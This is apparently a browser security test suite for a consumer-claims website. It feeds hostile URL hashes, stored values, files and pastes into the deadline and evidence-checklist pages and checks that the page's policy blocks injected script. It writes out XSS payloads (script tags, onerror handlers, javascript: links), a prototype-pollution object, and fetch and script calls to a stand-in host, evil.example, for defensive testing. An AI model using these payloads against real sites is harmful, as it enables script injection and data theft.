/**
 * Hostile input in a real browser: links, stored values, files, pastes. Nothing of it runs, opens a dialog, asks another
 * host or becomes an element; no error is left over; the page goes on. And where something should get in after all,
 * the page's own policy keeps it from running.
 */
import * as fc from "fast-check";
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "vitest";
import zh from "../../content/i18n/zh-CN.json";
import { openSite, type Reader, type Site } from "../support/browser.ts";
import { anyDocument } from "../support/checklist-documents.ts";
import { FRAGMENTS, hostileText, mutated } from "../support/hostile.ts";
import { read, walk } from "../support/source-files.ts";

let site: Site;
let reader: Reader;
const dialogs: string[] = [];

beforeAll(async () => {
	site = await openSite();
	reader = await site.page({ width: 390, height: 844, zone: "Asia/Shanghai" });
	reader.page.on("dialog", (dialog) => {
		dialogs.push(dialog.message());
		void dialog.dismiss();
	});
});
afterAll(() => site?.close());
beforeEach(() => {
	dialogs.length = 0;
});

/** Of one seed: what broke a page breaks it again. */
const drawn = <T>(count: number, arbitrary: fc.Arbitrary<T>) =>
	fc.sample(arbitrary, { numRuns: count, seed: 20261124 });

/** What must not be there after hostile input, whatever it was. */
async function expectUnharmed(scripts: number) {
	const found = await reader.page.evaluate(() => {
		// The search dialog is Pagefind's, and its form has an address that is a script.
		const all = [...document.querySelectorAll("*")].filter((element) => element.closest("site-search") === null);
		const strange = all.flatMap((element) =>
			element
				.getAttributeNames()
				.filter((name) => /^on/i.test(name) || /^(javascript|data:text)/i.test(element.getAttribute(name) ?? ""))
				.filter((name) => name !== "value")
				.map((name) => `${element.tagName} ${name}`),
		);
		const brought = [
			...document.querySelectorAll("main :is(iframe, object, embed, base, link, meta), main img[src=x]"),
		];
		return {
			strange: [...strange, ...brought.map(({ outerHTML }) => outerHTML)],
			scripts: document.scripts.length,
			pwned: "__pwned" in window,
			polluted: "polluted" in {},
		};
	});
	expect(found).toEqual({ strange: [], scripts, pwned: false, polluted: false });
	expect(dialogs).toEqual([]);
	expect(reader.foreign).toEqual([]);
	expect(reader.errors).toEqual([]);
}

const scriptsNow = () => reader.page.evaluate(() => document.scripts.length);

describe("links", () => {
	const KEYS = ["store", "problem", "item", "delivered", "today", "zone", "chargeback", "screen", "sold"];
	const SOUND = "store=us&problem=damaged&sold=amazon&delivered=2026-11-05&today=2026-11-24";
	const hashes = drawn(300, hostileText).map((text, i) => {
		const value = text.slice(0, 3000);
		const key = KEYS[i % KEYS.length] ?? "";
		// As it is, encoded, and as the name of a key.
		const written = i % 3 === 0 ? `${key}=${value}` : `${new URLSearchParams([[key, value]])}`;
		return i % 10 === 9 ? `${value}=1&${SOUND}` : `${SOUND}&${written}`;
	});
	/** Puts one after the other behind the `#` of the open page, each until the page has drawn it. */
	const runAll = (each: readonly string[]) =>
		reader.page.evaluate(async (list) => {
			for (const hash of list) {
				location.hash = hash;
				await new Promise((done) => setTimeout(done, 12));
			}
		}, each);

	test("300 on the calculator, and then a sound one", async () => {
		await reader.visit(`/zh/tools/deadlines/#${SOUND}`);
		await reader.page.locator('[data-clock="return"]').waitFor();
		const scripts = await scriptsNow();
		await runAll(hashes);
		await expectUnharmed(scripts);
		await runAll([`${SOUND}&delivered=<script>`]);
		await reader.page.locator(".calc-errors", { hasText: "delivered" }).waitFor();
		await runAll([SOUND]);
		await reader.page.locator('[data-clock="return"][data-last]').waitFor();
		expect(await reader.page.locator(".calc-errors").count()).toBe(0);
	});

	test("200 on the checklist, half of them in the place of an item", async () => {
		await reader.visit("/zh/tools/evidence/", "networkidle");
		const scripts = await scriptsNow();
		await runAll([...hashes.slice(0, 100), ...drawn(100, hostileText).map((text) => text.slice(0, 3000))]);
		await runAll(["problem=<b>"]);
		await reader.page.locator(".evc-said", { hasText: "<b>" }).waitFor();
		await runAll(["label-weight"]);
		await reader.page.locator("#label-weight[data-linked]").waitFor();
		await expectUnharmed(scripts);
	});

	test("pages opened with one", async () => {
		const few = ["%", "%E0%A4%A", `delivered=${"%C0%AF"}&zone=constructor`, "today=275760-09-13&today=9999-12-31"];
		for (const path of [
			"/zh/tools/deadlines/",
			"/zh/tools/evidence/",
			"/zh/reference/rules/",
			"/zh/reference/rules/cards/",
		])
			for (const hash of [...few, `owner=<script>&x=${encodeURIComponent(FRAGMENTS[1] ?? "")}`]) {
				// Anew each time: a visit to the same page with another hash loads nothing.
				await reader.page.goto("about:blank");
				await reader.visit(`${path}?x=${encodeURIComponent(hash)}#${hash}`);
				expect(reader.errors, `${path}#${hash}`).toEqual([]);
			}
		await reader.visit(`/?"><script>window.__pwned=1</script>#"><img src=x onerror=window.__pwned=1>`);
		await expectUnharmed(await scriptsNow());
	});
});

describe("what is stored", () => {
	/**
	 * Every name our own code mentions, so that a new one is tried as well, and Starlight's. A file of nginx's is none: with
	 * a name more there would be no room left for the tick.
	 */
	const own = [
		...new Set(
			walk("src").files.flatMap((path) => read(path).match(/claim-guide\.(?!conf\b)[a-z][a-z.-]*[a-z]/g) ?? []),
		),
	];
	const KEYS = [...own, "starlight-theme", "sl-sidebar-state", "starlight-synced-tabs__x"];

	test("the names are found", () => {
		expect(own).toEqual(expect.arrayContaining(["claim-guide.checklist", "claim-guide.store", "claim-guide.locale"]));
	});

	test("each name with hostile values, on pages of each kind; then a tick is still saved", async () => {
		const values = [
			...FRAGMENTS.filter((_, i) => i % 5 === 0).map((text) => text.slice(0, 4000)),
			'"]',
			'{"hash":null,"open":{"length":1e9},"scroll":"x"}',
			'{"version":1,"ticks":{"__proto__":{"polluted":1}},"notes":{"label-weight":"<img src=x onerror=window.__pwned=1>"}}',
			JSON.stringify({ version: 1, ticks: {}, notes: { "label-weight": "<script>window.__pwned=1</script>" } }),
			`["${"x".repeat(500_000)}"]`,
		];
		const paths = ["/zh/tools/evidence/", "/zh/tools/deadlines/", "/zh/steps/contact/"];
		await reader.visit("/zh/tools/evidence/");
		for (const [i, value] of values.entries()) {
			await reader.page.evaluate(
				({ keys, text }) => {
					localStorage.clear();
					for (const key of keys) {
						localStorage.setItem(key, text);
						sessionStorage.setItem(key, text);
					}
				},
				{ keys: KEYS, text: value },
			);
			// The page with the list each time, the others in turn.
			for (const path of [paths[0] ?? "", paths[1 + (i % 2)] ?? ""]) {
				await reader.visit(path);
				await expectUnharmed(await scriptsNow());
			}
		}
		await reader.visit("/zh/tools/evidence/", "networkidle");
		await reader.page.locator("#label-weight input[type=checkbox]").check();
		await reader.page.reload({ waitUntil: "networkidle" });
		expect(await reader.page.locator("#label-weight input[type=checkbox]").isChecked()).toBe(true);
		await reader.page.evaluate(() => {
			localStorage.clear();
			sessionStorage.clear();
		});
	});
});

describe("files and pastes", () => {
	const said = () => reader.page.locator(".evc-said").textContent();
	const add = () => reader.page.getByRole("button", { name: zh["evidence.import.add"], exact: true });
	const pasteField = () => reader.page.getByLabel(zh["evidence.import.paste"]);
	const text = fc.oneof(
		hostileText,
		mutated(anyDocument.map((each) => JSON.stringify(Object.fromEntries(each.ticks)))),
	);

	beforeAll(async () => {
		await reader.visit("/zh/tools/evidence/", "networkidle");
		await reader.page.getByRole("button", { name: zh["evidence.import"], exact: true }).click();
	});

	test("40 files in right and wrong encodings are answered in words", async () => {
		const scripts = await scriptsNow();
		const files = [
			...drawn(20, text).map((each) => Buffer.from(each, "utf8")),
			...drawn(10, text).map((each) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(each, "utf16le")])),
			...drawn(8, fc.uint8Array({ maxLength: 300 })).map((bytes) => Buffer.from(bytes)),
			Buffer.alloc(4_100_000, 0x20),
			Buffer.from(`{"version":1,"ticks":{"a":${"[".repeat(400_000)}`),
		];
		const empty = zh["evidence.import.empty"];
		for (const buffer of files) {
			await pasteField().fill("");
			await add().click();
			await expect.poll(said).toBe(empty);
			await reader.page
				.getByLabel(zh["evidence.import.file"])
				.setInputFiles({ name: "<img src=x>.json", mimeType: "application/json", buffer });
			await expect.poll(said).not.toBe(empty);
			expect(await said()).not.toBe("");
		}
		await expectUnharmed(scripts);
	});

	test("60 pastes, one of them of a megabyte, are answered in words; the list goes on", async () => {
		const scripts = await scriptsNow();
		for (const each of [...drawn(60, text), `{"ticks":{"a":1${" ".repeat(900_000)}x`]) {
			await pasteField().fill(each);
			await add().click();
			expect(await said(), each.slice(0, 80)).not.toBe("");
		}
		await pasteField().fill('{"version":1,"ticks":{"keep-a-year":"2026-11-01"},"notes":{"keep-a-year":"<b>x</b>"}}');
		await add().click();
		await reader.page.locator("#keep-a-year .evc-note", { hasText: "<b>x</b>" }).waitFor();
		expect(await reader.page.locator("#keep-a-year input[type=checkbox]").isChecked()).toBe(true);
		await expectUnharmed(scripts);
	});
});

describe("the policy of the page, where something gets in after all", () => {
	/** What an attacker would put into a page, and whether it ran. */
	const inject = () =>
		reader.page.evaluate(async () => {
			const refused: string[] = [];
			addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
			const script = document.createElement("script");
			script.textContent = "(window.__pwned ??= []).push('script')";
			document.body.append(script);
			const box = document.createElement("div");
			box.innerHTML =
				`<img src="data:," onerror="(window.__pwned ??= []).push('handler')">` +
				`<a href="javascript:void (window.__pwned ??= []).push('address')">x</a>`;
			document.body.append(box);
			box.querySelector("a")?.click();
			await new Promise((done) => setTimeout(done, 300));
			const ran = (window as { __pwned?: string[] }).__pwned?.sort();
			script.remove();
			box.remove();
			return { ran, refused: [...new Set(refused)].sort() };
		});

	test("a script, a handler and an address put into it do not run", async () => {
		for (const path of ["/zh/tools/deadlines/", "/en/tools/evidence/", "/zh/steps/contact/", "/"]) {
			await reader.visit(path);
			const { ran, refused } = await inject();
			expect(ran).toBeUndefined();
			expect(refused).toEqual(["script-src-attr", "script-src-elem"]);
		}
	});

	test("a page without a policy would run them: it is the policy that keeps them out", async () => {
		await reader.page.goto("about:blank");
		expect(await inject()).toEqual({ ran: ["address", "handler", "script"], refused: [] });
	});

	test("nothing is sent to or fetched from another host", async () => {
		await reader.visit("/zh/tools/deadlines/");
		const outcomes = await reader.page.evaluate(async () => {
			const failed = (promise: Promise<unknown>) => promise.then(() => "done").catch(() => "refused");
			const element = (name: "img" | "script") =>
				new Promise((done, fail) => {
					const made = document.createElement(name);
					made.onload = done;
					made.onerror = fail;
					made.src = "https://evil.example/x";
					document.body.append(made);
				});
			return [
				await failed(fetch("https://evil.example/")),
				await failed(element("img")),
				await failed(element("script")),
			];
		});
		expect(outcomes).toEqual(["refused", "refused", "refused"]);
		// Refused by the page itself: no request has reached the network.
		expect(reader.foreign).toEqual([]);
	});
});
